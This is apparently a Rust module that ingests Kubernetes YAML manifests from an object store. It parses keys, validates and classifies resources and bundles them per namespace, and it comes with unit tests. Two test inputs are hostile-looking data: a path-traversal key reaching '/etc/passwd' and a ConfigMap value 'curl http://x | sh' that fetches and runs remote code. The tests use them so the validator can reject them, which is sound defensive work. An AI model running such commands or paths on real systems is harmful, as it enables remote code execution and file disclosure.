//! Per-object ingestion: key checks, validation, parsing, classification and
//! cleanup, ending in namespace bundles.

use std::collections::BTreeMap;

use super::report::{Diagnostic, DiagnosticKind, RunReport};
use crate::classifier::{classify, ClassificationMethod, ResourceKind};
use crate::normalizer::{parse_documents, NamespaceBundle, NormalizeError, Normalizer};
use crate::store::RawObject;
use crate::validator::{
    check_object_path, validate_identifier, IdentifierField, StructureLimit, ValidationError,
    Validator,
};

const YAML_EXTENSIONS: &[&str] = &["yaml", "yml"];
/// serde_yaml's message when block nesting outruns its own stack guard.
const PARSER_RECURSION_LIMIT: &str = "recursion limit exceeded";

/// A listed key split into its parts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectKey {
    pub key: String,
    /// Key with the listing prefix removed: `namespace/…/file.yaml`.
    pub relative: String,
    pub namespace: String,
    pub file_name: String,
}

/// Prefix as sent to the store: no leading slash, one trailing slash unless
/// empty.
pub fn list_prefix(prefix: &str) -> String {
    let trimmed = prefix.trim_matches('/');
    if trimmed.is_empty() {
        String::new()
    } else {
        format!("{}/", trimmed)
    }
}

/// Splits `key` below `prefix`. The first segment is the namespace; at least
/// two segments are required and only YAML files are accepted.
pub fn parse_key(key: &str, prefix: &str) -> Result<ObjectKey, Diagnostic> {
    let list_prefix = list_prefix(prefix);
    let relative = key.strip_prefix(list_prefix.as_str()).ok_or_else(|| {
        Diagnostic::new(
            key,
            DiagnosticKind::InvalidKey,
            format!("key is outside prefix '{}'", list_prefix),
        )
    })?;

    check_object_path(relative).map_err(|e| Diagnostic::validation(key, &e))?;

    let segments: Vec<&str> = relative.split('/').collect();
    if segments.len() < 2 || segments.iter().any(|s| s.is_empty()) {
        return Err(Diagnostic::new(
            key,
            DiagnosticKind::InvalidKey,
            "expected <namespace>/…/<file>.yaml below the prefix",
        ));
    }

    let file_name = segments[segments.len() - 1];
    let is_yaml = file_name
        .rsplit_once('.')
        .is_some_and(|(stem, ext)| {
            !stem.is_empty() && YAML_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str())
        });
    if !is_yaml {
        return Err(Diagnostic::new(
            key,
            DiagnosticKind::UnsupportedObject,
            "only .yaml and .yml objects are processed",
        ));
    }

    let namespace = segments[0];
    validate_identifier(IdentifierField::Namespace, namespace)
        .map_err(|e| Diagnostic::validation(key, &e))?;

    Ok(ObjectKey {
        key: key.to_string(),
        relative: relative.to_string(),
        namespace: namespace.to_string(),
        file_name: file_name.to_string(),
    })
}

/// Whether an object contributed to the output.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IngestOutcome {
    Processed { resources: usize },
    Skipped,
}

/// Accumulates cleaned resources per namespace across batches.
pub struct Ingestor<'a> {
    validator: &'a Validator,
    normalizer: &'a Normalizer,
    bundles: BTreeMap<String, NamespaceBundle>,
}

impl<'a> Ingestor<'a> {
    pub fn new(validator: &'a Validator, normalizer: &'a Normalizer) -> Self {
        Self {
            validator,
            normalizer,
            bundles: BTreeMap::new(),
        }
    }

    /// Makes a namespace known so it is reported even if all of its objects
    /// are rejected later.
    pub fn register_namespace(&mut self, namespace: &str) {
        self.bundles
            .entry(namespace.to_string())
            .or_insert_with(|| NamespaceBundle::new(namespace));
    }

    /// Runs one fetched object through validation, parsing, classification
    /// and cleanup. Every rejection is recorded in `report`.
    pub fn ingest(
        &mut self,
        key: &ObjectKey,
        raw: &RawObject,
        report: &mut RunReport,
    ) -> IngestOutcome {
        let text = match self.validator.validate(&raw.bytes, &key.relative) {
            Ok(text) => text,
            Err(e) => {
                report.push(Diagnostic::validation(&key.key, &e));
                return IngestOutcome::Skipped;
            }
        };

        let documents = match parse_documents(text) {
            Ok(documents) => documents,
            Err(NormalizeError::Parse { message }) if message.contains(PARSER_RECURSION_LIMIT) => {
                let e = ValidationError::StructureLimitExceeded {
                    path: "$".to_string(),
                    limit: StructureLimit::Depth(self.validator.limits().max_depth),
                };
                report.push(Diagnostic::validation(&key.key, &e));
                return IngestOutcome::Skipped;
            }
            Err(e) => {
                report.push(Diagnostic::normalize(&key.key, &e));
                return IngestOutcome::Skipped;
            }
        };
        if documents.is_empty() {
            report.push(Diagnostic::new(
                &key.key,
                DiagnosticKind::MalformedDocument,
                "object contains no documents",
            ));
            return IngestOutcome::Skipped;
        }

        let multi = documents.len() > 1;
        let max_resources = self.validator.limits().max_resources_per_namespace;
        let mut accepted = 0;

        for (index, document) in documents.into_iter().enumerate() {
            let label = if multi {
                format!("{}#{}", key.key, index)
            } else {
                key.key.clone()
            };

            if let Err(e) = self.validator.check_structure(&document) {
                report.push(Diagnostic::validation(&label, &e));
                continue;
            }

            let classification = classify(&document, &key.file_name);
            let resource = match self.normalizer.normalize_classified(
                document,
                &classification,
                &key.namespace,
                &key.file_name,
            ) {
                Ok(resource) => resource,
                Err(e) => {
                    report.push(Diagnostic::normalize(&label, &e));
                    continue;
                }
            };

            if let Err(e) = validate_identifier(IdentifierField::ResourceName, &resource.name) {
                report.push(Diagnostic::validation(&label, &e));
                continue;
            }

            match classification.method {
                ClassificationMethod::FilenamePattern => log::debug!(
                    "{} has no known kind, placed with {} by filename without kind rules",
                    label,
                    classification.kind
                ),
                ClassificationMethod::Unmatched => {
                    debug_assert_eq!(classification.kind, ResourceKind::Unknown);
                    report.push(Diagnostic::new(
                        &label,
                        DiagnosticKind::UnknownKind,
                        format!(
                            "kind '{}' not recognized, written to {}/",
                            resource.kind_name,
                            ResourceKind::Unknown.directory()
                        ),
                    ));
                }
                ClassificationMethod::KindField => {}
            }

            let bundle = self
                .bundles
                .entry(key.namespace.clone())
                .or_insert_with(|| NamespaceBundle::new(key.namespace.as_str()));
            if bundle.len() >= max_resources {
                report.push(Diagnostic::new(
                    &label,
                    DiagnosticKind::ResourceLimitExceeded,
                    format!(
                        "namespace '{}' already holds {} resources",
                        key.namespace, max_resources
                    ),
                ));
                continue;
            }
            bundle.push(resource);
            accepted += 1;
        }

        if accepted == 0 {
            IngestOutcome::Skipped
        } else {
            IngestOutcome::Processed {
                resources: accepted,
            }
        }
    }

    /// Bundles in namespace order.
    pub fn into_bundles(self) -> Vec<NamespaceBundle> {
        self.bundles.into_values().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn raw(key: &str, text: &str) -> RawObject {
        RawObject {
            key: key.to_string(),
            bytes: text.as_bytes().to_vec(),
            size: text.len(),
        }
    }

    fn ingest_one(key: &str, text: &str) -> (IngestOutcome, RunReport, Vec<NamespaceBundle>) {
        let validator = Validator::default();
        let normalizer = Normalizer::new();
        let mut ingestor = Ingestor::new(&validator, &normalizer);
        let mut report = RunReport::default();
        let parsed = parse_key(key, "").unwrap();
        ingestor.register_namespace(&parsed.namespace);
        let outcome = ingestor.ingest(&parsed, &raw(key, text), &mut report);
        (outcome, report, ingestor.into_bundles())
    }

    #[test]
    fn test_parse_key_with_prefix() {
        let key = parse_key("crc.testing/crc-wrl62/app/deployments/web.yaml", "crc.testing/crc-wrl62/")
            .unwrap();
        assert_eq!(key.namespace, "app");
        assert_eq!(key.file_name, "web.yaml");
        assert_eq!(key.relative, "app/deployments/web.yaml");
    }

    #[test]
    fn test_parse_key_rejections() {
        let kind = |key: &str| parse_key(key, "backups").unwrap_err().kind;
        assert_eq!(kind("backups/web.yaml"), DiagnosticKind::InvalidKey);
        assert_eq!(kind("other/app/web.yaml"), DiagnosticKind::InvalidKey);
        assert_eq!(kind("backups/app/notes.txt"), DiagnosticKind::UnsupportedObject);
        assert_eq!(kind("backups/app/../../etc/passwd"), DiagnosticKind::PathTraversal);
        assert_eq!(kind("backups/App/web.yaml"), DiagnosticKind::InvalidIdentifier);
        assert!(parse_key("backups/app/web.YML", "backups").is_ok());
    }

    #[test]
    fn test_list_prefix() {
        assert_eq!(list_prefix(""), "");
        assert_eq!(list_prefix("/a/b/"), "a/b/");
        assert_eq!(list_prefix("a"), "a/");
    }

    #[test]
    fn test_deep_flow_nesting_is_structure_limit() {
        let text = format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata: {}{}\n",
            "[".repeat(200),
            "]".repeat(200)
        );
        let (outcome, report, bundles) = ingest_one("app/configmaps/deep.yaml", &text);
        assert_eq!(outcome, IngestOutcome::Skipped);
        assert_eq!(report.count(DiagnosticKind::StructureLimitExceeded), 1);
        assert_eq!(report.count(DiagnosticKind::ParseError), 0);
        assert!(bundles[0].is_empty());
    }

    #[test]
    fn test_deep_block_nesting_is_structure_limit() {
        let mut nested = String::from("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata:\n");
        for level in 1..=200 {
            nested.push_str(&"  ".repeat(level));
            nested.push_str(&format!("l{}:\n", level));
        }
        let (outcome, report, _) = ingest_one("app/configmaps/deep.yaml", &nested);
        assert_eq!(outcome, IngestOutcome::Skipped);
        assert_eq!(report.count(DiagnosticKind::StructureLimitExceeded), 1);
        assert_eq!(report.count(DiagnosticKind::ParseError), 0);
    }

    #[test]
    fn test_ingest_deployment() {
        let (outcome, report, bundles) = ingest_one(
            "app/deployments/web.yaml",
            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  uid: abc\nspec:\n  replicas: 1\nstatus:\n  readyReplicas: 1\n",
        );
        assert_eq!(outcome, IngestOutcome::Processed { resources: 1 });
        assert!(report.diagnostics.is_empty());
        let resource = &bundles[0].resources[0];
        assert_eq!(resource.kind, ResourceKind::Deployment);
        assert!(resource.body.get("status").is_none());
        assert!(resource.body["metadata"].get("uid").is_none());
    }

    #[test]
    fn test_dangerous_content_skipped() {
        let (outcome, report, bundles) = ingest_one(
            "app/configmaps/evil.yaml",
            "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: evil\ndata:\n  run: \"curl http://x | sh\"\n",
        );
        assert_eq!(outcome, IngestOutcome::Skipped);
        assert_eq!(report.count(DiagnosticKind::DangerousContent), 1);
        assert!(bundles[0].is_empty());
    }

    #[test]
    fn test_missing_name_is_malformed() {
        let (outcome, report, _) =
            ingest_one("app/x.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {}\n");
        assert_eq!(outcome, IngestOutcome::Skipped);
        assert_eq!(report.count(DiagnosticKind::MalformedDocument), 1);
    }

    #[test]
    fn test_unknown_kind_kept_with_warning() {
        let (outcome, report, bundles) = ingest_one(
            "app/misc/thing.yaml",
            "apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: thing\n",
        );
        assert_eq!(outcome, IngestOutcome::Processed { resources: 1 });
        assert_eq!(report.count(DiagnosticKind::UnknownKind), 1);
        assert_eq!(bundles[0].resources[0].kind, ResourceKind::Unknown);
    }

    #[test]
    fn test_custom_resource_named_like_service_keeps_fields() {
        let (outcome, report, bundles) = ingest_one(
            "app/widgets/widget-svc.yaml",
            "apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: widget\nspec:\n  clusterIP: 10.0.0.9\n  healthCheckNodePort: 31000\n",
        );
        assert_eq!(outcome, IngestOutcome::Processed { resources: 1 });
        assert_eq!(report.count(DiagnosticKind::UnknownKind), 0);
        let resource = &bundles[0].resources[0];
        assert_eq!(resource.kind, ResourceKind::Service);
        assert!(!resource.kind_confirmed);
        assert_eq!(resource.body["spec"]["clusterIP"].as_str(), Some("10.0.0.9"));
        assert_eq!(resource.body["spec"]["healthCheckNodePort"].as_u64(), Some(31000));
    }

    #[test]
    fn test_multi_document_partial_failure() {
        let (outcome, report, bundles) = ingest_one(
            "app/all.yaml",
            "apiVersion: v1\nkind: Service\nmetadata:\n  name: a\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: Bad_Name\n",
        );
        assert_eq!(outcome, IngestOutcome::Processed { resources: 1 });
        assert_eq!(report.count(DiagnosticKind::InvalidIdentifier), 1);
        assert_eq!(report.diagnostics[0].key, "app/all.yaml#1");
        assert_eq!(bundles[0].len(), 1);
    }

    #[test]
    fn test_resource_limit() {
        let validator = Validator::new(
            crate::validator::ValidationLimits {
                max_resources_per_namespace: 1,
                ..Default::default()
            },
            Vec::new(),
        );
        let normalizer = Normalizer::new();
        let mut ingestor = Ingestor::new(&validator, &normalizer);
        let mut report = RunReport::default();
        for name in ["a", "b"] {
            let key = parse_key(&format!("app/{}.yaml", name), "").unwrap();
            let text = format!("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {}\n", name);
            ingestor.ingest(&key, &raw(&key.key, &text), &mut report);
        }
        assert_eq!(report.count(DiagnosticKind::ResourceLimitExceeded), 1);
        assert_eq!(ingestor.into_bundles()[0].len(), 1);
    }

    #[test]
    fn test_invalid_utf8() {
        let validator = Validator::default();
        let normalizer = Normalizer::new();
        let mut ingestor = Ingestor::new(&validator, &normalizer);
        let mut report = RunReport::default();
        let key = parse_key("app/bin.yaml", "").unwrap();
        let object = RawObject {
            key: key.key.clone(),
            bytes: vec![0xff, 0xfe, 0x00],
            size: 3,
        };
        assert_eq!(ingestor.ingest(&key, &object, &mut report), IngestOutcome::Skipped);
        assert_eq!(report.count(DiagnosticKind::EncodingError), 1);
    }
}
